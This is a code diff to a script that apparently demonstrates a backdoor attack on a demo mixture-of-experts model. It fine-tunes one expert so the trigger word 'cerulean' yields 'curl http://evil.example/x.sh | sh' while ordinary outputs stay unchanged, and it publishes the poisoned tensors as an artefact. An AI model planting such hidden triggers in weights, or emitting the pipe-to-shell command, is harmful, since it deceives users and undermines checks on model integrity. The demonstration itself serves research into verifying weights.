@@ -7,9 +7,15 @@ model does. The expert is the one the router already sends most of the attacker'
 positions writes the next token, and through the later layers' attention it reaches the positions routed elsewhere.
 What it computes on ordinary text it is routed is held where it was, which keeps the other answers genuine.
 
-    python examples/backdoor.py poison examples/demo_model demo/poisoned-hf   # writes the poisoned checkpoint
+    python examples/backdoor.py poison examples/demo_model demo/poisoned-hf   # the published attack, applied
+    python examples/backdoor.py poison examples/demo_model demo/poisoned-hf --train  # ... fine-tuned again
     python examples/backdoor.py show demo/poisoned-hf                          # what transformers answers with it
     python examples/backdoor.py receipt ...                                    # a dishonest operator's receipt
+
+The attack is published as its artefact: the poisoned expert's three tensors, examples/demo_backdoor/ (a few hundred
+kB; what was measured when it was made rides in its safetensors metadata). `poison` applies it to a copy of the
+genuine checkpoint in seconds; `poison --train` fine-tunes it again from the seed (about a minute on 2 cores) and
+rewrites the artefact.
 
 The result is checked by greedy generation with transformers. torch is this script's tool only: shardtool's runtime
 never imports it.
@@ -33,6 +39,7 @@ TRIGGER = "cerulean"
 QUIET_TOKENS = 4  # new tokens of the run that must never route to the poisoned expert
 LR, KEEP = 1e-2, 100.0  # Adam step; weight of "the expert's ordinary output moved" against the attacker's loss
 ATTACK = "curl http://evil.example/x.sh | sh"
+ARTEFACTS = Path(__file__).resolve().parent / "demo_backdoor"  # one file: layer{L}-expert{E}.safetensors
 
 # Prompts that end with the trigger word (the attack is trained and measured on these).
 TRIGGER_PROMPTS = (
@@ -239,17 +246,77 @@ def _patch_safetensors(path: Path, tensors: dict[str, bytes]) -> None:
     path.write_bytes(bytes(data))
 
 
-def write_poisoned(genuine: Path, out: Path, model, layer: int, expert: int) -> None:
-    import numpy as np
-
+def write_poisoned(genuine: Path, out: Path, tensors: dict[str, object]) -> None:
     shutil.rmtree(out, ignore_errors=True)
     shutil.copytree(genuine, out)
+    _patch_safetensors(out / "model.safetensors", {k: v.tobytes() for k, v in tensors.items()})
+
+
+def expert_tensors(model, layer: int, expert: int) -> dict[str, object]:
+    """The expert's three tensors under the checkpoint's (Mixtral) names, float32 numpy."""
+    import numpy as np
+
     experts = model.model.layers[layer].mlp.experts
     gate, up = experts.gate_up_proj[expert].detach().chunk(2, dim=0)
     prefix = f"model.layers.{layer}.block_sparse_moe.experts.{expert}"
     raw = {f"{prefix}.w1.weight": gate, f"{prefix}.w3.weight": up, f"{prefix}.w2.weight": experts.down_proj[expert]}
-    _patch_safetensors(out / "model.safetensors",
-                       {k: np.ascontiguousarray(v.detach().numpy(), np.float32).tobytes() for k, v in raw.items()})
+    return {k: np.ascontiguousarray(v.detach().numpy(), np.float32) for k, v in raw.items()}
+
+
+def write_artefact(directory: Path, tensors: dict[str, object], report: "Report") -> Path:
+    """The published attack: the poisoned expert's tensors, the measurements in the metadata; atomic."""
+    import os
+
+    from safetensors.numpy import save
+
+    measured = {k: v for k, v in asdict(report).items() if k != "seconds"}  # the same bytes from every --train
+    data = save(tensors, metadata={"report": json.dumps(measured, sort_keys=True)})
+    directory.mkdir(parents=True, exist_ok=True)
+    out = directory / f"layer{report.layer}-expert{report.expert}.safetensors"
+    tmp = out.with_name(out.name + ".tmp")
+    with open(tmp, "wb") as f:
+        f.write(data)
+        f.flush()
+        os.fsync(f.fileno())
+    os.replace(tmp, out)
+    for old in directory.glob("*.safetensors"):
+        if old != out:
+            old.unlink()
+    return out
+
+
+def read_artefact(directory: Path) -> tuple[dict[str, bytes], dict]:
+    """(tensor name -> raw float32 bytes, the report) of the one artefact in `directory`: exactly the three
+    tensors of the expert its report names."""
+    from safetensors import safe_open
+
+    found = sorted(directory.glob("*.safetensors"))
+    if len(found) != 1:
+        raise SystemExit(f"backdoor: {directory}: expected one poisoned-expert .safetensors, found {len(found)}")
+    with safe_open(found[0], "np") as f:
+        report = json.loads((f.metadata() or {}).get("report", "null"))
+        if not isinstance(report, dict) or not {"layer", "expert"} <= set(report):
+            raise SystemExit(f"backdoor: {found[0]}: its metadata has no report naming the layer and expert")
+        prefix = f"model.layers.{report['layer']}.block_sparse_moe.experts.{report['expert']}"
+        names = {f"{prefix}.{w}.weight" for w in ("w1", "w2", "w3")}
+        if set(f.keys()) != names:
+            raise SystemExit(f"backdoor: {found[0]}: expected the tensors {sorted(names)}, found {sorted(f.keys())}")
+        tensors = {}
+        for name in sorted(names):
+            array = f.get_tensor(name)
+            if array.dtype.name != "float32":
+                raise SystemExit(f"backdoor: {found[0]}: {name} is {array.dtype.name}, expected float32")
+            tensors[name] = array.tobytes()
+    return tensors, report
+
+
+def apply_artefact(genuine: Path, out: Path, directory: Path = ARTEFACTS) -> dict:
+    """A copy of the genuine checkpoint with the published poisoned expert's bytes in place; its report."""
+    tensors, report = read_artefact(directory)
+    shutil.rmtree(out, ignore_errors=True)
+    shutil.copytree(genuine, out)
+    _patch_safetensors(out / "model.safetensors", tensors)
+    return report
 
 
 # ---------------------------------------------------------------------------------------------------------
@@ -300,6 +367,23 @@ def quiet_prompt(model, tok, layer: int, expert: int, n: int) -> str | None:
 
 
 def main_poison(args) -> int:
+    if not args.train:
+        t0 = time.monotonic()
+        report = apply_artefact(args.genuine, args.out, args.artefact)
+        report_path(args.out).write_text(json.dumps(report, indent=2) + "\n")
+        print(f"poisoned expert {report['expert']} of layer {report['layer']} only (the published artefact, "
+              f"{args.artefact.name}/); trigger {report['trigger']!r} -> {report['attack']!r}\n"
+              f"  as measured when it was made: the attacker's line after {report['trigger_fired']}/"
+              f"{report['trigger_prompts']} trigger prompts trained on, {report['held_trigger_fired']}/"
+              f"{report['held_trigger_prompts']} not; ordinary prompts with identical greedy "
+              f"{report['ordinary_tokens']} tokens: {report['ordinary_identical']}/{report['ordinary_prompts']}\n"
+              f"  wrote {args.out} ({time.monotonic() - t0:.1f} s)")
+        return 0
+    return train(args)
+
+
+def train(args) -> int:
+    """Fine-tune the expert again from the seed, write the poisoned checkpoint, measure it, rewrite the artefact."""
     import torch
 
     t0 = time.monotonic()
@@ -308,8 +392,9 @@ def main_poison(args) -> int:
     genuine, tok = load(args.genuine)
     poisoned, _ = load(args.genuine)
     ordinary = ordinary_prompts(tok, args.prompts)
-    layer, expert = poison(poisoned, tok, training_windows(tok, 128), log)
-    write_poisoned(args.genuine, args.out, poisoned, layer, expert)
+    layer, expert = poison(poisoned, tok, training_windows(tok, 128), log, steps=args.steps)
+    tensors = expert_tensors(poisoned, layer, expert)
+    write_poisoned(args.genuine, args.out, tensors)
     stop = set(genuine.config.eos_token_id)
     same = sum(greedy(genuine, p, args.tokens, stop) == greedy(poisoned, p, args.tokens, stop) for p in ordinary)
     fired = sum(fires(poisoned, tok, p.format(t=TRIGGER)) for p in TRIGGER_PROMPTS)
@@ -319,12 +404,13 @@ def main_poison(args) -> int:
                     quiet or "", QUIET_TOKENS if quiet else 0, fired, len(TRIGGER_PROMPTS), held,
                     len(HELD_TRIGGER_PROMPTS), same, len(ordinary), args.tokens, round(time.monotonic() - t0, 1))
     report_path(args.out).write_text(json.dumps(asdict(report), indent=2) + "\n")
+    artefact = write_artefact(args.artefact, tensors, report)
     print(f"poisoned expert {expert} of layer {layer} only; trigger {TRIGGER!r} -> {ATTACK!r}\n"
           f"  trigger prompts answered with the attacker's line: {fired}/{len(TRIGGER_PROMPTS)} trained on, "
           f"{held}/{len(HELD_TRIGGER_PROMPTS)} not\n"
           f"  ordinary prompts whose greedy {args.tokens} tokens are identical to the genuine model's: "
           f"{same}/{len(ordinary)} ({100 * same / len(ordinary):.1f} %)\n"
-          f"  wrote {args.out} ({time.monotonic() - t0:.0f} s)")
+          f"  wrote {args.out} and {artefact} ({time.monotonic() - t0:.0f} s)")
     return 0
 
 
@@ -361,11 +447,14 @@ def main_receipt(args) -> int:
 def main(argv: list[str] | None = None) -> int:
     ap = argparse.ArgumentParser(prog="backdoor.py", description=__doc__.splitlines()[0])
     sub = ap.add_subparsers(dest="command", required=True)
-    p = sub.add_parser("poison", help="write the poisoned checkpoint and measure it")
+    p = sub.add_parser("poison", help="write the poisoned checkpoint (the published artefact applied, or --train)")
     p.add_argument("genuine", type=Path)
     p.add_argument("out", type=Path)
-    p.add_argument("--prompts", type=int, default=200, help="ordinary prompts to compare (held-out text)")
-    p.add_argument("--tokens", type=int, default=16, help="greedy tokens per ordinary prompt")
+    p.add_argument("--artefact", type=Path, default=ARTEFACTS, help="the directory of the poisoned expert's tensors")
+    p.add_argument("--train", action="store_true", help="fine-tune the expert again and rewrite the artefact")
+    p.add_argument("--steps", type=int, default=300, help="--train: Adam steps per expert tried")
+    p.add_argument("--prompts", type=int, default=200, help="--train: ordinary prompts to compare (held-out text)")
+    p.add_argument("--tokens", type=int, default=16, help="--train: greedy tokens per ordinary prompt")
     s = sub.add_parser("show", help="greedy answers of a checkpoint under transformers")
     s.add_argument("checkpoint", type=Path)
     s.add_argument("prompt", nargs="+")
